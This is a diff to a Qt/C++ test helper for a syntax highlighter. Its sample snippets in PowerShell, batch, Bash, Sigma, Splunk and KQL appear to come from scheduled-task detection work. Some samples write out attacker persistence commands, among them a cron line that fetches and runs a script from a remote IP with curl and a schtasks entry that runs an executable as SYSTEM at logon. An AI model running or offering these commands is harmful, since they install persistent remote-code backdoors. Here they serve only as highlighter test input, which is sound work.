@@ -27,47 +27,57 @@ struct Sample {
 
 inline QVector<Sample> samples() {
     return {
-        {"PowerShell command line", QStringLiteral("PowerShell"),
-         QStringLiteral("Get-ScheduledTask | Where-Object { $_.TaskPath -like '\\Microsoft\\*' } # persistence\n"
-                        "Register-ScheduledTask -TaskName \"Updater\" -Action $action"),
+        {"PowerShell command line",
+         QStringLiteral("PowerShell"),
+         QStringLiteral(
+             "Get-ScheduledTask | Where-Object { $_.TaskPath -like '\\Microsoft\\*' } # persistence\n"
+             "Register-ScheduledTask -TaskName \"Updater\" -Action $action"),
          {QStringLiteral("Where-Object"), QStringLiteral("$_"), QStringLiteral("'\\Microsoft"),
           QStringLiteral("# persistence"), QStringLiteral("\"Updater\""), QStringLiteral("$action")},
          {QStringLiteral("TaskName")},
          {}},
-        {"cmd command line", QStringLiteral("MS-DOS Batch"),
-         QStringLiteral("@echo off\n"
-                        "schtasks /create /tn \"\\Microsoft\\Windows\\Updater\" /tr \"C:\\ProgramData\\upd.exe\" "
-                        "/sc onlogon /ru SYSTEM\n"
-                        "rem persistence\n"
-                        "set X=%APPDATA%\\upd.exe"),
+        {"cmd command line",
+         QStringLiteral("MS-DOS Batch"),
+         QStringLiteral(
+             "@echo off\n"
+             "schtasks /create /tn \"\\Microsoft\\Windows\\Updater\" /tr \"C:\\ProgramData\\upd.exe\" "
+             "/sc onlogon /ru SYSTEM\n"
+             "rem persistence\n"
+             "set X=%APPDATA%\\upd.exe"),
          {QStringLiteral("echo off"), QStringLiteral("/create"), QStringLiteral("\"\\Microsoft"),
           QStringLiteral("rem persistence"), QStringLiteral("set"), QStringLiteral("APPDATA")},
          {QStringLiteral("schtasks"), QStringLiteral("onlogon")},
          {}},
-        {"bash command line", QStringLiteral("Bash"),
-         QStringLiteral("#!/bin/bash\n"
-                        "(crontab -l; echo \"*/5 * * * * curl -s http://203.0.113.7/x.sh | sh\") | crontab -\n"
-                        "if [ -n \"$HOME\" ]; then echo ok; fi"),
+        {"bash command line",
+         QStringLiteral("Bash"),
+         QStringLiteral(
+             "#!/bin/bash\n"
+             "(crontab -l; echo \"*/5 * * * * curl -s http://203.0.113.7/x.sh | sh\") | crontab -\n"
+             "if [ -n \"$HOME\" ]; then echo ok; fi"),
          {QStringLiteral("#!/bin/bash"), QStringLiteral("crontab"), QStringLiteral("echo"),
           QStringLiteral("\"*/5"), QStringLiteral("if"), QStringLiteral("HOME")},
          {QStringLiteral("ok")},
          {}},
-        {"JSON record, trailing newline", QStringLiteral("JSON"),
+        {"JSON record, trailing newline",
+         QStringLiteral("JSON"),
          QStringLiteral("{\"EventID\": 4698, \"TaskName\": \"\\\\Updater\", \"Enabled\": true,\n"
                         " \"process\": {\"name\": \"schtasks.exe\"}}\n"),
          {QStringLiteral("\"EventID\""), QStringLiteral("4698"), QStringLiteral("true"),
           QStringLiteral("\"schtasks.exe\"")},
          {},
          {}},
-        {"XML record", QStringLiteral("XML"),
+        {"XML record",
+         QStringLiteral("XML"),
          QStringLiteral("<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\">\n"
                         "  <System><EventID>4698</EventID></System>\n"
                         "  <!-- task registered -->\n"
                         "</Event>"),
-         {QStringLiteral("Event"), QStringLiteral("xmlns"), QStringLiteral("\"http:"), QStringLiteral("<!--")},
+         {QStringLiteral("Event"), QStringLiteral("xmlns"), QStringLiteral("\"http:"),
+          QStringLiteral("<!--")},
          {QStringLiteral("4698")},
          {}},
-        {"Sigma rule", QStringLiteral("YAML"),
+        {"Sigma rule",
+         QStringLiteral("YAML"),
          QStringLiteral("title: Scheduled Task Creation\n"
                         "logsource:\n"
                         "  product: windows\n"
@@ -79,7 +89,8 @@ inline QVector<Sample> samples() {
           QStringLiteral("# tuned")},
          {},
          {}},
-        {"macros.conf as INI", QStringLiteral("INI Files"),
+        {"macros.conf as INI",
+         QStringLiteral("INI Files"),
          QStringLiteral("[tb_t1053_filter]\n"
                         "definition = NOT (process_name=\"schtasks.exe\")\n"
                         "iseval = 0\n"
@@ -88,22 +99,25 @@ inline QVector<Sample> samples() {
           QStringLiteral("# tuned")},
          {},
          {}},
-        {"SPL search", QStringLiteral("Splunk SPL"),
-         QStringLiteral("index=wineventlog sourcetype=\"WinEventLog:Security\" EventCode=4698 `tb_t1053_filter`\n"
-                        "``` tuned ```\n"
-                        "| eval risky=if(match(TaskContent, \"(?i)-enc\"), 1, 0)\n"
-                        "| stats count dc(host) AS hosts BY user\n"
-                        "| where risky=1 AND hosts<5"),
+        {"SPL search",
+         QStringLiteral("Splunk SPL"),
+         QStringLiteral(
+             "index=wineventlog sourcetype=\"WinEventLog:Security\" EventCode=4698 `tb_t1053_filter`\n"
+             "``` tuned ```\n"
+             "| eval risky=if(match(TaskContent, \"(?i)-enc\"), 1, 0)\n"
+             "| stats count dc(host) AS hosts BY user\n"
+             "| where risky=1 AND hosts<5"),
          {QStringLiteral("index"), QStringLiteral("wineventlog"), QStringLiteral("\"WinEventLog:Security\""),
           QStringLiteral("EventCode"), QStringLiteral("4698"), QStringLiteral("`tb_t1053_filter`"),
-          QStringLiteral("``` tuned ```"), QStringLiteral("| eval"), QStringLiteral("eval"), QStringLiteral("if"),
-          QStringLiteral("match"), QStringLiteral("stats"), QStringLiteral("count"), QStringLiteral("dc"),
-          QStringLiteral("AS"), QStringLiteral("AND"), QStringLiteral("where")},
+          QStringLiteral("``` tuned ```"), QStringLiteral("| eval"), QStringLiteral("eval"),
+          QStringLiteral("if"), QStringLiteral("match"), QStringLiteral("stats"), QStringLiteral("count"),
+          QStringLiteral("dc"), QStringLiteral("AS"), QStringLiteral("AND"), QStringLiteral("where")},
          {QStringLiteral("TaskContent"), QStringLiteral("host"), QStringLiteral("user")},
          {QStringLiteral("index"), QStringLiteral("wineventlog"), QStringLiteral("\"WinEventLog:Security\""),
           QStringLiteral("4698"), QStringLiteral("`tb_t1053_filter`"), QStringLiteral("``` tuned ```"),
           QStringLiteral("| eval"), QStringLiteral("eval"), QStringLiteral("match")}},
-        {"macros.conf stanza", QStringLiteral("Splunk Macros"),
+        {"macros.conf stanza",
+         QStringLiteral("Splunk Macros"),
          QStringLiteral("[tb_t1053_filter(1)]\n"
                         "args = rule\n"
                         "definition = search NOT (process_name=\"schtasks.exe\" AND rule=$rule$) \\\n"
@@ -117,7 +131,8 @@ inline QVector<Sample> samples() {
          {QStringLiteral("allowed")},
          {QStringLiteral("definition"), QStringLiteral("\"schtasks.exe\""), QStringLiteral("$rule$"),
           QStringLiteral("\\\n"), QStringLiteral("isnull"), QStringLiteral("# written")}},
-        {"KQL query", QStringLiteral("KQL"),
+        {"KQL query",
+         QStringLiteral("KQL"),
          QStringLiteral("// scheduled tasks created by PowerShell\n"
                         "DeviceProcessEvents\n"
                         "| where Timestamp > ago(7d) and FileName =~ \"schtasks.exe\"\n"
@@ -131,7 +146,8 @@ inline QVector<Sample> samples() {
           QStringLiteral("bin")},
          {QStringLiteral("Timestamp"), QStringLiteral("FileName"), QStringLiteral("ReportId")},
          {QStringLiteral("// scheduled"), QStringLiteral("DeviceProcessEvents"), QStringLiteral("where"),
-          QStringLiteral("ago"), QStringLiteral("7d"), QStringLiteral("=~"), QStringLiteral("\"schtasks.exe\"")}},
+          QStringLiteral("ago"), QStringLiteral("7d"), QStringLiteral("=~"),
+          QStringLiteral("\"schtasks.exe\"")}},
     };
 }
 
@@ -157,6 +173,12 @@ inline QVector<Span> spans(const QTextDocument *document) {
     return result;
 }
 
+// The Breeze themes' normal text colours. The in-process highlighter paints normal text with them,
+// the tool's HTML leaves it uncoloured: both count as "no colour of its own".
+inline bool isNormalTextColour(const QColor &colour) {
+    return colour == QColor(0x1f, 0x1c, 0x1b) || colour == QColor(0xcf, 0xcf, 0xc2);
+}
+
 // How the character at `position` looks: "#rrggbb" when it has a colour of its own, plus " bold" and
 // " italic"; empty in the default style.
 inline QString styleAt(const QTextDocument *document, int position) {
@@ -167,7 +189,8 @@ inline QString styleAt(const QTextDocument *document, int position) {
     for (const Span &span : all) {
         if (position < span.start || position >= span.start + span.length)
             continue;
-        if (span.format.foreground().style() != Qt::NoBrush)
+        if (span.format.foreground().style() != Qt::NoBrush &&
+            !isNormalTextColour(span.format.foreground().color()))
             colour = span.format.foreground().color();
         bold = bold || span.format.fontWeight() > QFont::Normal;
         italic = italic || span.format.fontItalic();
@@ -186,13 +209,15 @@ inline QString styleOf(const QTextDocument *document, const QString &token) {
     return position < 0 ? QStringLiteral("<missing>") : styleAt(document, position);
 }
 
-// The distinct colours in the document.
+// The distinct colours in the document, normal text aside.
 inline QStringList colours(const QTextDocument *document) {
     QStringList names;
     const QVector<Span> all = spans(document);
     for (const Span &span : all) {
-        if (span.format.foreground().style() != Qt::NoBrush && !names.contains(span.format.foreground().color().name()))
-            names.append(span.format.foreground().color().name());
+        const QColor colour = span.format.foreground().color();
+        if (span.format.foreground().style() != Qt::NoBrush && !isNormalTextColour(colour) &&
+            !names.contains(colour.name()))
+            names.append(colour.name());
     }
     return names;
 }
